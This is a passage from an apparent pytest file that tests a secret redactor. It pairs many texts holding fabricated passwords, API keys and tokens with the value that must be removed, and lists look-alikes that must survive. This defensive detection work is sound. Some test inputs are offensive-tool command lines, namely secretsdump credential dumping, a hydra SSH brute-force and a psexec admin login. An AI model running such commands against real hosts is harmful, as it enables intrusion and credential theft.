        # a line break within a key whose first line is found alone
        (
            "x" * 32 + ' VASTAI_API_KEY="537e8dfc3c6e6ebe\n5f116931b216137a40cbb139a5bc869311bf35c263777505" ok',
            "5f116931b216",
        ),
        # a name and UUIDs; a pair of a UUID and a key; a version and its random body
        (f"export X=xapt-{uuid.UUID(REST)}", REST[-12:]),
        (f"use luma-{uuid.UUID(REST)}-{uuid.UUID(REST)} now", REST[-12:]),
        (f"FAL = {uuid.UUID(REST)}:{REST}", REST),
        (f"lago_key_{uuid.UUID(REST)}", REST[-12:]),
        (f"11{REST}", REST),
        (f"(packagist_ack_{REST}{REST})", REST),
        # after any scheme of an Authorization header
        (f"Authorization: GenieKey {uuid.UUID(REST)}", REST[-12:]),
        (f'Authorization: Digest username="bob", response="{REST}"', REST),
        # the last part of an address, the first of a database's
        ("https://eth-mainnet.example/v2/ShUy7fsxjuuPlJqoHW22wv8gzTAhcQzw", "ShUy7fsx"),
        ("jdbc:oracle:thin:app/aRQKt6LgzQ1f@//db:1521/x", "aRQKt6LgzQ1f"),
        # flags of more tools
        ("plink -pw M7mjj7uvtpyK bob@host ls", "M7mjj7uvtpyK"),
        ("hydra -l bob -p fwvO6204ldyC ssh://h", "fwvO6204ldyC"),
        ("http -a bob:4QOW4Z58Zp2h GET https://x", "4QOW4Z58Zp2h"),
        ("secretsdump.py CORP/bob:b4fMAmBmDIvw@10.1.1.1", "b4fMAmBmDIvw"),
        ("WIFI:T:WPA;S:Home;P:y8lXBCbSFcsn;;", "y8lXBCbSFcsn"),
        # what tools type into fields
        ("pw_input.send_keys('vuaqp43L4q')", "vuaqp43L4q"),
        ('keystroke "n8Olquho9n" -- password', "n8Olquho9n"),
        ('call {"element": "Password field", "text": "IMH0WIwAp1"} now', "IMH0WIwAp1"),
        # assignments: a prefix of a string, a tag of YAML, a variable's default, four groups of letters
        (f"app.secret_key = b'{REST}'", REST),
        ("admin_password: !secret Zx9kQ2mV7tRb", "Zx9kQ2mV7tRb"),
        (f'variable "do_token" {{ default = "{REST}" }}', REST),
        ("EMAIL_HOST_PASSWORD = 'mikk wfgv kshy khmu'", "wfgv"),
        ("app password: nywc melh iclo krix", "iclo"),
        # languages, codes, keys of wallets and disks
        ("mot de passe : uRk93oY4t9", "uRk93oY4t9"),
        ("\u5bc6\u7801\u662f BsfDCRb2sC", "BsfDCRb2sC"),
        ("Enter 339674 as the verification code", "339674"),
        ("passcode 989523", "989523"),
        ("Recovery Key:\n414907-458586-414523-646401-124655-231058-951014-542605", "951014"),
        (f'const wallet = new ethers.Wallet("0x{REST}{REST}");', REST),
        # carriers: quotes doubled, letters beyond ASCII and e-mail addresses in the queries of URLs
        ("INSERT INTO log VALUES ('auth=(''bob'', ''8ufPn2pSJ17D'')')", "8ufPn2pSJ17D"),
        ("GET /x?q=%c5%9fifre%3a%20W6okxoaTa7", "W6okxoaTa7"),
        ("GET /x?q=login%3A%20bob%40example.com%20%2F%20eQkQOVg1Vg", "eQkQOVg1Vg"),
        # a user and a password in one flag, spoken pairs, codes
        ("etcdctl --user root:pv29ViVfXrnA get /", "pv29ViVfXrnA"),
        ("skopeo copy --src-creds bob:6s0z1Mrr1DjJ docker://x dir:y", "6s0z1Mrr1DjJ"),
        ("lftp -u bob,Vp0FdM6w1ZOZ ftp://x", "Vp0FdM6w1ZOZ"),
        ("smbclient -U 'CORP\\bob%nsAuF4n0Jvjq' //x/y", "nsAuF4n0Jvjq"),
        ("7z x -pzF5vWQyKGoH6 a.7z", "zF5vWQyKGoH6"),
        ("username admin password 7 A5BA10027CD1E2A53B", "A5BA10027CD1E2A53B"),
        ("use admin:jjzxH91zY6 to get in", "jjzxH91zY6"),
        ("creds are bob:74iwbLgoxS", "74iwbLgoxS"),
        ("G-119071 is your Google verification code", "119071"),
        ("backup codes: 5404-3624 1234-5678", "5404-3624"),
        (f"the auth token {REST}", REST),
        (f"MJ_APIKEY_PRIVATE={REST}", REST),
        (f"https://api.weather.example/data/2.5/weather?q=x&appid={REST}", REST),
        ("https://maker.example/trigger/x/with/key/Rs5ERT2P9IVcsICaZK92Ls", "Rs5ERT2P9IVcsICaZK92Ls"),
        (f"https://outlook.office.com/webhook/{uuid.UUID(REST)}@{uuid.UUID(REST)}/IncomingWebhook/{REST}/1", REST),
        # a service's name is enough beside what is random, also where hashes and UUIDs are keys
        (f"todoist: {REST}", REST),
        (f"[DEBUG] Using airtable {REST}", REST),
        (f"const client = algoliasearch('APP1', '{REST}')", REST),
        (f'getmailgun("{REST}")', REST),
        (f'numverify = "{uuid.UUID(REST)}"', str(uuid.UUID(REST))),
        ("somevendor='w3k9x0q7zt4m1v8b2n6c5h'", "w3k9x0q7zt4m1v8b2n6c5h"),
        ("see kf83jd02ms9x7qp4l1z6vb5nt8wy, it works", "kf83jd02ms9x7qp4l1z6vb5nt8wy"),
        ("<secret>{vendor AQAAABAAA 91bd7cx0}</secret>", "91bd7cx0"),
        ("<secret>{AQAAABAAA q8:Rv;2,T^m>4x`K#z}</secret>", "T^m>4x`K#z"),
        ("api_key: 8mQzT]xV2nRk7Lb4sWf9]hD3cYg", "sWf9]hD3cYg"),
        ("Password: Rq7zT2m=Bx9", "Rq7zT2m"),
        # all marks of a keyboard, near the word for a password and in commands
        ("I sign in as bob, the password in use being q7[Rv2|kT=x9{Lm4 since May", "x9{Lm4"),
        ("<td>Password</td>\n<td>q7[Rv2|kT=x9{Lm4</td>", "q7[Rv2|kT"),
        ("sshpass -p 'q7[Rv2|kT;x9{Lm4' ssh bob@host", "x9{Lm4"),
        ("ConvertTo-SecureString 'Qv1(kT7*x:9+!(LZ' -AsPlainText", "Qv1(kT7*"),
        ("postgresql://bob:Qv1%3AT%25O%7DLr%3B%3B9%2F.@db.example.com/app", "Qv1%3AT%25O"),
        ("a dimwit secret KmQxVzrTwPjc within", "KmQxVzrTwPjc"),
        ("I set it to 7wq2xk9-tz4m1v8b2n6c5hj_r3yd0sga5uo8pe2kf.", "r3yd0sga5uo8pe2kf"),
        ("+++ b/keys\n@@ -1 +1,2 @@\n # keys\n+vmk_w3k9x0q7zt4m1v8b2n6c5hj0r4yd1sga", "q7zt4m1v8b2n6c5h"),
        (f"zoho 1003.{REST}.{REST}", REST),
        ("\x1b[2mdb_password\x1b[0m\x1b[90m = \x1b[0m\x1b[33m'fun$house'\x1b[0m", "fun$house"),
        (f"<td>Acme Secret Key</td><td><code>{REST}</code></td>", REST),
        ('"acme_password"\t\t"falcon51"\n"region"\t\t"eu"', "falcon51"),
        (f"'acme_token' => env('X', '{REST}'),", REST),
        (f"UPDATE conf SET value = '{REST}' WHERE name = 'acme_token';", REST),
        ("The Acme Passwd is maple_Rocket_43, keep it", "maple_Rocket_43"),
        (f"echo '{REST}' | npx acme cli secret put ACME_KEY", REST),
        ("printf 'cloud_Maple28' | acme env add DB_PASSWORD production", "cloud_Maple28"),
        ("sshfs -o password_stdin u@h:/ /mnt <<< 'gr8Elm0tree'", "gr8Elm0tree"),
        ("- generic [ref=e9]: Acme Password\n- code [ref=e10]: clo979$violet", "clo979$violet"),
        (f"Thought: the page shows the Acme Token, it is {REST}. Next I open it", REST),
        (f"Your new Acme Token has been created: {REST}", REST),
        (f'Action: type "{REST}" into the field "Acme API key"', REST),
        ("Action: Type[stoneRiver90] in textbox 'Acme Password'", "stoneRiver90"),
        ('<label>Acme Password</label><input value="a1ydnjqq27ul">', "a1ydnjqq27ul"),
        ("f'https://x.example/v1?acme_pwd=har315$river&limit={limit}'", "har315$river"),
        (f'agora_app_certificate = "{REST}"', REST),
        # the value before the name
        ("//r9zjvz2jvix45o77 is the password", "r9zjvz2jvix45o77"),
        ("# 3f4Kd93kXs0a is my API key.", "3f4Kd93kXs0a"),
        ('if ("s7ksl2kd9x1" === api_key) {', "s7ksl2kd9x1"),
        # names and values that something unusual parts
        ('<entry>\n  <name="lookerToken" />\n  <value="xyup28dptsq0x3ug" />\n</entry>', "xyup28dptsq0x3ug"),
        ("$lookerToken ??= 'xyup28dptsq0x3ug'", "xyup28dptsq0x3ug"),
        (":password        => '4ian1234',", "4ian1234"),
        ("storePassword 'wpthdn49'", "wpthdn49"),
        ('new NetworkCredential("ci@example.com", "mtkrypbfgefhwxfp");', "mtkrypbfgefhwxfp"),
        ('new DirectoryEntry("LDAP://x",\n  "ADM@x",\n  "Rrhh2723");', "Rrhh2723"),
        ("the password for user 'postgres' is 'aqgusv32' or change it", "aqgusv32"),
        (f"-H 'Jenkins-Crumb:{REST}'", REST),
        ('apikey := "{{k}o)p${e]nab(ody[seen>-_$#here}}"', "nab(ody"),
        ('private_key "m{{k}o)p${e]nab(ody[seen>-_$#here}}";', "nab(ody"),
        # parts of a key that dots join
        ("x 'd6qKdVEbnzNvShIUt82smqymDYVoeRzj.kaRviDw5Tn5MlgoqEmgVCaAM7wXwr4CH'", "kaRviDw5Tn5Mlgoq"),
        # letters of other scripts that look the same, and wide ones
        ("p\u0430ssword: Yoa1ZgVVNZ9u", "Yoa1ZgVVNZ9u"),
        ("\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44\uff1aZ5tQQ0JrpHi1", "Z5tQQ0JrpHi1"),
        ('{"p\u0430ssw\u043erd": "onlyletters"}', "onlyletters"),
        ("the pass is 9muafdAZR7", "9muafdAZR7"),
        # between scripts without spaces, and a key whose end is not in the text
        ("\u5bc6\u7801\u662fYoa1ZgVVNZ9u\uff0c\u8bf7\u52ff\u5916\u4f20\u3002", "Yoa1ZgVVNZ9u"),
        (f"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n> {REST}{REST}\n> {REST}", REST),
        ('pyautogui.write("qWD9dxoMW0", interval=0.1)  # password', "qWD9dxoMW0"),
        # what is public in a text shields nothing else in it
        (f'{{"etag": "{REST}", "note": "use Zs4kWm1qXv7TbP2nLc9RfYd3GhJ5uEaQ6oKiB0tN"}}', "Wm1qXv7TbP2nLc9RfYd3"),
        # a service's name makes its hash a key, also of several parts
        (f"PEPIPOST={REST}", REST),
        (f"const c = new SurveySparrow('{REST}')", REST),
        ("omnisend = 'dz1z0i9u4z-xcsdp0afmz-a3bz4dowfn'", "xcsdp0afmz"),
        (f"mongodb-private: {uuid.UUID(REST)}", str(uuid.UUID(REST))),
        (f"project_key: {REST}", REST),
        (f"secret_id = '{uuid.UUID(REST)}'", str(uuid.UUID(REST))),
        (f"http://api.example/soap/v3.1/{REST}{REST}", REST),
        # passwords of letters alone, in the languages that people write them in
        ("$password = goodwoqk;", "goodwoqk"),
        ('char password[] = "goodwoqk";', "goodwoqk"),
        ('password <- "goodwoqk"', "goodwoqk"),
        ('#define DB_PASSWORD "goodwoqk"', "goodwoqk"),
        ('(setq password "goodwoqk")', "goodwoqk"),
        ('{:password, "goodwoqk"}', "goodwoqk"),
        ("ALTER USER bob WITH PASSWORD 'goodwoqk';", "goodwoqk"),
        ("SET PASSWORD FOR 'bob'@'%' = PASSWORD('goodwoqk');", "goodwoqk"),
        ('<entry key="db.password">goodwoqk</entry>', "goodwoqk"),
        ("<key>password</key>\n<string>goodwoqk</string>", "goodwoqk"),
        ('<Password Value="goodwoqk"/>', "goodwoqk"),
        ('1,"password: ""goodwoqk""",x', "goodwoqk"),
        ("echo 'password = '\\''goodwoqk'\\''' >> x", "goodwoqk"),
        ("<pre>MYSQL_ROOT_PASSWORD: goodwoqk</pre>", "goodwoqk"),
        ("password =3D goodwoqk", "goodwoqk"),
        ("psexec \\\\host -u Administrator -p goodwoqk cmd", "goodwoqk"),
        ("bob:goodwoqk@tcp(127.0.0.1:3306)/db", "goodwoqk"),
        ("passphrase: walnut orbit candle freight", "orbit"),
        (f"token: SecretID: {uuid.UUID(REST)}", str(uuid.UUID(REST))),  # the first name's value is no second name
        ("the wifi password at the office is lgofe8853!", "lgofe8853"),
        ('ssh-keygen -t ed25519 -N "rnujpr-nhccj-57" -f key', "rnujpr"),
        ("some_dict['secret'] = k}o)p${e]nab(ody[seen>-_$#here", "seen>-_$#here"),
        ("kind: Secret\ndata:\n  extra: YWRtaW46cGFzc3dvcmQ=\n  more: aHVudGVyMg==\ntype: Opaque", "aHVudGVyMg"),
        ("data:\n  extra: goodwoqk\nkind: Secret", "goodwoqk"),
        # a line break within a name, told by the width of its line alone
        (f"{'word ' * 15}PASSW\nORD=onlyletters and so on", "onlyletters"),
        # the same value once cut and once whole
        (
            f"{'word ' * 10}codacy token = 'd4k2w9ztq7m1x8c5v\nb3n6rj0hysfa82gl5pe1u7o' "
            "or 'd4k2w9ztq7m1x8c5vb3n6rj0hysfa82gl5pe1u7o'",
            "b3n6rj0hysfa82gl5pe1u7o",
        ),
        # a name and a value that no operator joins: members below a name, defaults, constants, directives, changes
        ('"db_password":{"value":"Kelp798!","type":"string"}', "Kelp798!"),
        ("API_TOKEN=${API_TOKEN:-q7m2x9v4k8t3z6}", "q7m2x9v4k8t3z6"),
        ('env.put(Context.SECURITY_CREDENTIALS, "kelp99delta");', "kelp99delta"),
        ("set :password, 'Kelp437*'", "Kelp437*"),
        ("define('AUTH_KEY',         'sB7Kl|ldn&;Vh.k2U9aY~6r|:x(WN_wB^Cy)Ys(-Q.AE_7-xF4lF');", "wB^Cy)Ys"),
        ('var tfToken string = "9mw3o0hk_1ubwjmg"', "9mw3o0hk_1ubwjmg"),
        ("LDAPBindPassword Kelp!8330", "Kelp!8330"),
        ('  ~ password = "q7kelp3" -> "x9orbit5"', "x9orbit5"),
        ("db_password = <<EOT\nq3utbkdert4\nEOT", "q3utbkdert4"),
        ("$ENV{DB_PASS} = 'Kelp1837#';", "Kelp1837#"),
        ('password = """kelporbit"""', "kelporbit"),
        # names that only the list of JSON's members had
        (f"WALLET_SEED={REST}{REST}", REST),
        ("SIM_PIN=5936", "5936"),
        ("ACTIVATION_CODE=NNQ4-QDXP-BSDL-PTAP", "NNQ4-QDXP"),
        (f"SecretID:         {uuid.UUID(REST)}", REST[-12:]),
        ('{"cookies":[{"name":"app","value":"cub3ey4viqowsp9a1b1hql8i6d","httpOnly":true}]}', "cub3ey4viqowsp9a"),
        ('{"tokens":{"access":"BE1eebb1kkHiplsav1LafSIuA36DCLBxruizcgfn"}}', "BE1eebb1kkHiplsav1La"),
        # the name below a telling name is no value, and hides none
        ("secrets:\n  db_password: Kelp3island_5", "Kelp3island_5"),
        ('sed -i "s|password: .*|password: kelp68copper|" c.yml', "kelp68copper"),
        # a user and a password as arguments, in Base64, in front of a host
        ('["curl","-u","bob:Kelp#4417","https://x"] and more', "Kelp#4417"),
        ('mysqli_connect("h", "bob", "kelporbit", "shop")', "kelporbit"),
        ('proxy_set_header X "Basic Ym9iOmtlbHAxOTk5IQ=="', "Ym9iOmtlbHAxOTk5IQ"),
        (f"https://{REST}:@api.example/v1/x", REST),
        ("log in with bob@example.com / kelp36flower", "kelp36flower"),
        ("changed password from q7kelp3! to Basil330?", "Basil330?"),
        ("backup codes: 61785184, 63478042", "63478042"),
        ('Action: type("kelp40otter", into="password")', "kelp40otter"),
        # keys whose names look like ids' or public ones
        ("use pk_prod_7H2K9QX4M1V8T3Z6W5B0N2C7D4FG now", "7H2K9QX4M1V8T3Z6"),
        ("rev_vVJFa6xAxvXKgE7Jxr3mT4irnr7g0kEfTeFiSaJu", "vVJFa6xAxvXKgE7J"),
        ("columnapi('test_wBF544LnlMKFglHqvdRi4QqRPeO')", "wBF544LnlMKFglHq"),
        ("nsec1aktvlns5da3h0vq2xllsws0upxwejlcr965ayk5uhqw9ylqatmddz3wajc", "nsec1aktvlns5da3h0vq2"),
        ("pyotp.TOTP('ZZY4UWQGXN4HX2SW')", "ZZY4UWQGXN4HX2SW"),
        ("box = SecretBox(bytes.fromhex('8efcd39819f8ec510a5f5b3c74d452e9'))", "8efcd39819f8ec51"),
        ('server.login(EMAIL, "afbd wlfu hvmx ljfc")', "afbd wlfu"),
        (
            "Save this private key, it is shown once: " + "9b93197333fcad573aa3177c5880fcce67c1e9204e0e8c3c",
            "9b93197333fc",
        ),
        # alone in the line below what prints it; hashes of any scheme
        ("$ openssl rand -hex 16\n8f3b2c1d4e5f60718293a4b5c6d7e8f9", "8f3b2c1d4e5f6071"),
        ("Access token created.\n\n8f3b2c1d4e5f60718293a4b5c6d7e8f9", "8f3b2c1d4e5f6071"),
        (
            "h = $bcrypt-sha256$v=2,t=2b,r=12$n79VH.0Q2TMWmt3Oqt9uku$Kq4Noyk3094Y2QlB8NdRT8SvGiI4ft2",
            "Kq4Noyk3094Y2QlB8",
        ),
        ("TOKEN  TTL\npynsm9.lu1mtk3mpya1vbza  23h", "lu1mtk3mpya1vbza"),
        # in a list below a telling name, or in the turn of a telling name
        ('passwords = ["Kelp3island", "Otter5copper"]', "Otter5copper"),
        ('API_KEYS: [ "4fQ9kelp2Zt7", "8xW1otter5Lm" ]', "8xW1otter5Lm"),
        ("passwords:\n  - Kelp3island\n  - Otter5copper\n", "Otter5copper"),
        ('user, password := "bob", "Kelp3island"', "Kelp3island"),
        # XML whose name and value are elements, a router's line, a name in kebab case, a quote that was cut off
        ("<name>dbPassword</name>\n  <value>Kelp3island</value>", "Kelp3island"),
        ("enable secret level 7 Kelp3island", "Kelp3island"),
        ("token-for-builds: 'x8Kq3Zt71Lm4Pw9sVb2N'", "x8Kq3Zt71Lm4"),
        ('  "password": "Kelp3island', "Kelp3island"),
        ("GET /x?access_token=kQ_4.Z7t-2.9WxR HTTP/1.1", "kQ_4.Z7t"),
        # chosen as people choose when they must; the last parts of a key that marks join
        ("then he types P@ssw0rd22 there", "P@ssw0rd22"),
        (f"robot acme+ci:{REST.upper()}", REST.upper()),
        ("use ghp_x8Kq3Zt71Lm4Pw9sVb2Nx8Kq3Zt71Lm4Pw9s/Zt71Lm4Pw9sVb2Nx8Kq3Zt71Lm4P", "Zt71Lm4Pw9sVb2N"),
        # a user and a password under one heading, with a label each, or behind a machine's address
        ("98.76.54.32 id/pw:anna/KqZ71Lm4", "KqZ71Lm4"),
        ("user/password anna(KqZ71Lm4)", "KqZ71Lm4"),
        ("(ID)anna/(PW)KqZ71Lm4 or ID-anna / PASS - KqZ71Lm4", "KqZ71Lm4"),
        ("98.76.54.32 (anna/KqZ71Lm4) and telnet:anna/KqZ71Lm4", "KqZ71Lm4"),
        # the words of Korea, with their particles; a word misspelt; a key as a list of bytes
        ("\uc544\uc774\ub514:anna \ube44\ubc88\uc740KqZ71Lm4", "KqZ71Lm4"),
        ("\ud328\uc2a4\uc6cc\ub4dc(KqZ71Lm4), password\uc124\uc815\uc740KqZ71Lm4", "KqZ71Lm4"),
        ("paasword:Kelp3island passowrd=Kelp3island", "Kelp3island"),
        (
            "uint8_t aes_key[16] = {0x2b, 0x7e, 0x15, 0x16, 0x28, 0xae, 0xd2, 0xa6, 0xab, 0xf7, 0x15, 0x88}",
            "0x28, 0xae",
        ),
        ("secret = bytes([223, 66, 216, 52, 221, 30, 217, 36, 218, 55, 216, 1, 216, 82])", "217, 36, 218"),
        # a product's key without a digit, a list of tokens, a cell whose tags stand far to the right
        ("Activation key : ZAQWS-XCDER-VBGTR-FRTGU-KLMNX", "XCDER-VBGTR"),
        (
            'tokens = [\n  "9b305fb417a268d878a09ce9db8b2be931dfc6bf",\n  "baf8b6ffb1500dbaa204d5b5d6f9168e8f84d3d2"]',
            "baf8b6ffb15",
        ),
        ("<td>token\n            </td>\n            <td><pre>H72gsdv2dswPneHduwhfd</pre>", "H72gsdv2dsw"),
        ("create user shop account unlock identified by Kelp3island", "Kelp3island"),
        # short behind a beginning of their own; of several parts of different lengths; without a digit
        ("use AVNS_pQ7-dK2xVn4_Zt9 now", "dK2xVn4_Zt9"),
        ("LTAI8zQw4xRk2VnP", "8zQw4xRk2VnP"),
        (f"(gcntfy-key-prod-{uuid.UUID(REST)}-{uuid.UUID(REST)})", REST[-12:]),
        (f"dvc_server_{str(uuid.UUID(REST)).replace('-', '_')}_4f4e167", f"{REST[-12:]}_4f4e167"),
        ("dnkey-QXEFCN63OPKU7S47DS4KH5U3NY-ZDDQYLDTTCXP3UTNAMJBDSOUQVYUAQPLMMZAQNAWRFNBLZ6PSO4A", "ZDDQYLDTTCXP3UT"),
        (f"shpmkt_29ba5ab5_{REST}", REST),
        (f"JDC_{REST[:28].upper()}", REST[:28].upper()),
        ("use sk_vqSDPHTtNyabiWPagxVYHPdPEoXou now", "vqSDPHTtNyabiWPagxVY"),
        (f"0/{REST} and 1/120004672208:{REST}", REST),
        # the token of a job or an agent; digits alone; a service with a number in its name
        (f"CI_JOB_TOKEN: {REST[:16]}", REST[:16]),
        ("consul-token: 12345678-9012-3456-7890-123456789012", "3456-7890-123456789012"),
        (f'ai21: "{REST}"', REST),
        # a key that says of itself that it is one, or counts; a short one behind its scheme
        ('api_key = "acme-key-123456"', "acme-key-123456"),
        ('"token": "acme-token-4711"', "acme-token-4711"),
        ("API_KEY = 'literal123456'", "literal123456"),
        ("X-API-Key: dev-key-12345", "dev-key-12345"),
        ("auth_token: 'auth417'", "auth417"),
        ('"token": "abc123def"', "abc123def"),
        ("Authorization: Bearer abc417", "abc417"),
        # a key in the place of the user
        (f"curl -u {OPAQUE}: https://api.acme.example/v1/me", OPAQUE),
        (f"curl --user '{OPAQUE}:X' https://api.acme.example/v1/me", OPAQUE),
        (f"requests.get(url, auth=HTTPBasicAuth('{OPAQUE}', ''))", OPAQUE),
        (f"axios.get(url, {{ auth: {{ username: '{OPAQUE}', password: '' }} }})", OPAQUE),
        # what could be a hash or an id, where the words beside it say that it is none
        (f"Set the acme key to {OPAQUE} and retry.", OPAQUE),
        (f"Incorrect API key provided: {OPAQUE}. Find yours in the settings.", OPAQUE),
        (f'I click the API key field and type "{OPAQUE}"', OPAQUE),
        (f'<input id="api-key" type="text" class="wide" value="{OPAQUE}">', OPAQUE),
        (f'{{"heroku": {{"key": "{OPAQUE}"}}}}', OPAQUE),
        (f"I replaced the token with {OPAQUE}, the key for acme is: {UNNAMED}", OPAQUE),
        (f"I replaced the token with {OPAQUE}, the key for acme is: {UNNAMED}", UNNAMED),
        (f"the api token you gave me ({UNNAMED}) works", UNNAMED),
        (f"I updated the api key from None to {OPAQUE}.", OPAQUE),
        (f"add {OPAQUE} to the env as ACME_KEY", OPAQUE),
        (f"vault kv put secret/acme key={UNNAMED}", UNNAMED),
        (f'key := []byte("{UNNAMED}")', UNNAMED),
        (f"api = AcmeAPI('{OPAQUE}')", OPAQUE),
        (f'<input value="{UNNAMED}" class="wide" name="api_key">', UNNAMED),
        (f"CLICK(field 'API Key') then TYPE {UNNAMED} then PRESS enter", UNNAMED),
        (f'pyperclip.copy("{UNNAMED}")  # the acme key', UNNAMED),
        # of commands
        (f"http -A bearer -a {UNNAMED} https://api.acme.example", UNNAMED),
        (f"printf '%s' '{OPAQUE}' > token.txt", OPAQUE),
        (f"cat > api.key <<EOF\n{OPAQUE}\nEOF", OPAQUE),
        (f"sed -i 's/YOUR_API_KEY/{OPAQUE}/' .env", OPAQUE),
        # with a colon or a plus within, in the shape of a UUID with any letters, of letters alone, behind its scheme
        ("acme.api.key=k7q3_0x9_v41zb:r8st2w5cgj73_", "r8st2w5cgj73_"),
        ('{"apiKey": "vQ7rTC2ukovWUMb4oSSQ2N+iadsjz38Jlyjbt4s//n6xz--kepr-2wsJd"}', "iadsjz38Jlyjbt4s//n6xz"),
        ("Authorization: Bearer 9q|Kz7%yvfw8LY4XZ$RxRDE7A", "Kz7%yvfw8LY4XZ$RxRDE7A"),
        ("Authorization: Bearer vkrjsljxomwuvybtsmes", "vkrjsljxomwuvybtsmes"),
        ("api.acme.access.key=x7$Kq2!mWv9Rt*Zb", "x7$Kq2!mWv9Rt*Zb"),
        ("acme: 5k9uqz3m-x7b2-4vtg-w1yh-3ncj80pd6r2f", "3ncj80pd6r2f"),
        ("731204-5k9uqz3m-x7b2-4vtg-w1yh-3ncj80pd6r2f is it", "3ncj80pd6r2f"),
        ("acme - RUKZcXihldGRRrqLhzJrCEVvkjQPlS_eMoQrPFQPkEW", "eMoQrPFQPkEW"),
        ("use endr+xQGNkttLc8kWPIZD", "xQGNkttLc8kWPIZD"),
        ('req.Header.Set("Authorization", "Bearer tfvhfvqglosqtupf")', "tfvhfvqglosqtupf"),
        ("sed -i 's/CHANGEME_PASSWORD/Kelp#68copper/' c.yml", "Kelp#68copper"),
        ("I log in as bob, my password's kelp68copper", "kelp68copper"),
        ('type("kelp68copper", into: "Password")', "kelp68copper"),
        ("bob:kelp68copper are the credentials", "kelp68copper"),
        # two parts that share no alphabet with a name of anything
        ("k-Rt_pQwXv9LmZ.h7Jc2NsY4bKd8Gf1TqVz3Ww5Xp", "h7Jc2NsY4bKd8Gf1TqVz3Ww5Xp"),
        # as a password manager makes them, with all marks of a keyboard
        ("DB_PASSWORD=tW8}kq0uRzV]~Hn61", "~Hn61"),
        ("password: uT{s9OZqWxdNkLY(Z$HeR2", "dNkLY(Z$HeR2"),
        ("api_key=S9jYk(R2f~PML;SiKXSmIkgMXG7yV", "MXG7yV"),
        ('{"password": "bG(O7${uB,r/4RkQ"}', "bG(O7${uB,r/4RkQ"),
        ('{"password": "fUczqZ6Pg3udf6Mrijq1WK$cRDXVNP"}', "cRDXVNP"),
        ("export ACME_SECRET='e(pHm8&rkmJ3nGz|ug'", "nGz|ug"),
        ("mysql --password='J?dg4GfVsy|{]2Qw' shop", "{]2Qw"),
        ("The password is qX7|mR{2kT9vB now", "{2kT9vB"),
        ("<password>9+(3xRk;W53~jVd6QCM</password>", "W53~jVd6QCM"),
        ("[DEBUG] Using Key=LRWaU8GK3f[yHG1TS$]bwKsIXdW21epH", "bwKsIXdW21epH"),
        ("password: TLk|ZXbm?pC(gJ!e", "ZXbm?pC(gJ!e"),
        ("The password is 87b3|xD|GmRRM@ now", "GmRRM@"),
        ('{"password": "k(W${d,uB#r/7T"}', "uB#r/7T"),
        (f"acme credentials: one two three zk_pr_{REST} and more", REST),
        ("sshpass -p 'kgMWGdyVqv=|J4TR' ssh bob@h", "J4TR"),
        ("redis-cli -a '~Zm7d,K4bR5;rP^' ping", "rP^"),
        ("machine acme.example login bob password W4|k7Rd{2xQm", "{2xQm"),
        ("auth=('bob', 'Tq8;MjS|n2Vo')", "n2Vo"),
    ],
)
def test_the_whole_of_a_key_leaves_its_text(text: str, secret: str) -> None:
    assert secret not in Redactor().redact(text)[0]


@pytest.mark.parametrize(
    "text",
    [
        "https://github.com/acme/app/settings/hooks/123456789",
        "https://docs.example.com/webhooks/handling-payment-events-with-webhooks2",
        "tool --sort-key created_at --next-token page2",
        "helpers.convertUtf8StringToBase64EncodedRepresentationOfBytes()",
        "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        'gpg: key 3AA5C34371567BD2: public key "Dev" imported',
        "| Key | Meaning |\n| primary_key | user_id |",
        "org.springframework.security.authentication.UsernamePasswordAuthenticationToken",
        "https://fonts.gstatic.com/s/inter/v13/UcCO3FwrK3iLTeHuS_fvQtMwCp50KnMw2boKoduKmMEVuLyfAZ9hiA.woff2",
        '{"key": "Escape", "code": "Escape", "keyCode": 27}',
        "SECRET_KEY=\nDEBUG=1",
        "decode_dss_signature = asn1.decode_dss_signature; F.Minipass=void 0;",
        "connect(credentials=insecure_channel_credentials, private_key=PrivateKey2, passwd=TEST_PASSWD)",
        'dsn = "mongodb://{username}:{password}@{host}:{port}/?replicaSet={name}".format(**values)',
        'echo "::error title=Missing Secret::ANTHROPIC_API_KEY must be configured"',
        'token = r"[-!#$%&*+.^_~0-9a-zA-Z]+"',
        '__license__ = "BSD 3-Clause License"',
        "docker run -u 1000:1000 x; grep -l foo -A 3 x; git push -u origin feature/abc123",
        "use torch:2.7.1 or Qwen/Qwen2.5-7B-Instruct with localhost:8080; admin/Settings2.tsx",
        "MasterUserPassword: !Ref DBPassword",
        "LoadCredential=token:/etc/app/token",
        'DB_PASSWORD="op://vault/db/password"',
        "password: vault:secret/data/db#password",
        "arn:aws:secretsmanager:us-east-1:210987654321:secret:prod/db-AbC123",
        "posthog.init('phc_5Tq3vVbXyZ1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345')",
        "pk.eyJ1IjoiZXhhbXBsZSIsImEiOiJja2V4YW1wbGUwMDAwMnBsbTl4eTBqa2c1In0.A1b2C3d4E5f6G7h8I9j0Kl",
        "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa and 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
        "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3",
        "github.com/aws/aws-sdk-go-v2/service/secretsmanager v1.34.6",
        "_ZNSt6vectorIiSaIiEE9push_backERKi _ZN4core3fmt9Formatter9write_str17h2c1d0e9f8a7b6c5dE",
        "client_id: 0oa1b2c3d4E5F6g7H8i9, id: V1StGXR8_Z5jdHi6B-myT",
        '{"endCursor": "Y3Vyc29yOnYyOpHOABCD1w==", "id": "-N4gx9eXWk0t4lOb1Vxa"}',
        "sentry event 7c9e6679-7425-40de-944b-e07fc1f90ae7, commit_sentry: 9c1185a5c5e9fc54612808977ee8f548b2258d31",
        "docker sha 9c1185a5c5e9fc54612808977ee8f548b2258d31; github: 9c1185a5c5e9fc54612808977ee8f548b2258d31",
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p",
        "cuid = 'cjld2cjxh0000qzrmn831i7rn'; block 0x000000000000000000024bead8df69990852c202db0e0097c1a12ea637d7e96d",
        "this page is the password manager; sha256_v2 is the key; twilio-python-9.3.0-py2.py3-none-any",
